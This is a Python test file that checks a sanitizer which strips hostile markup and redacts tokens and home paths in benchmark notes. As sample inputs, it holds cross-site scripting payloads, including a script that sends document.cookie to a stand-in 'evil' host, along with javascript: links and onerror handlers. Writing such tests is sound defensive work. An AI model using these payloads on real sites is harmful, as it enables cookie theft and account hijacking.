"""Notes become plain text: hostile markup goes, the words stay."""

from __future__ import annotations

import pytest

from runlocalai_bench.publish.notes import MAX_NOTES, clean_notes

TOKEN = "ghp_" + "N" * 36


@pytest.mark.parametrize(("raw", "clean"), [
    ("ran overnight on a quiet box", "ran overnight on a quiet box"),
    ("hi <script>fetch('//evil/'+document.cookie)</script> there", "hi there"),
    ("<SCRIPT src=//evil/x.js></SCRIPT>ok", "ok"),
    ("&lt;script&gt;alert(1)&lt;/script&gt;ok", "ok"),
    ("&amp;lt;script&amp;gt;alert(1)", ""),
    ("<scr<script>ipt>alert(1)</script>after", ""),  # the broken tag runs to the end
    ("<img src=x onerror=alert(1)>ran on Q4", "ran on Q4"),
    ("<b>bold</b> and <a href='https://x'>link</a>", "bold and link"),
    ("<!-- hidden --><p>para</p>", "para"),
    ("see [my notes](javascript:alert(document.domain)) please", "see my notes please"),
    ("![pwn](https://evil/x.png) score looks right", "score looks right"),
    ("[x](https://e.com/a_(b)) tail", "x tail"),
    ("[ref]: javascript:alert(1)\nkept", "kept"),
    ("javascript:alert(1)", "alert(1)"),
    ("a < b and 5 > 3, <5% drift", "a < b and 5 > 3, <5% drift"),
    ("bell\x07 and rtl\u202eoverride", "bell and rtloverride"),
    ("line\r\n\r\n\r\n\r\nline2", "line\n\nline2"),
    (f"my token {TOKEN} oops", "my token [REDACTED] oops"),
    (None, ""),
])
def test_clean_notes(raw, clean):
    assert clean_notes(raw) == clean


def test_notes_are_capped():
    out = clean_notes("word " * 1000)
    assert len(out) == MAX_NOTES and out.endswith("…")


def test_the_home_path_is_redacted(monkeypatch, tmp_path):
    home = tmp_path / "alice"
    monkeypatch.setenv("HOME", str(home))
    assert clean_notes(f"model in {home}/models/x.gguf") == "model in ~/models/x.gguf"
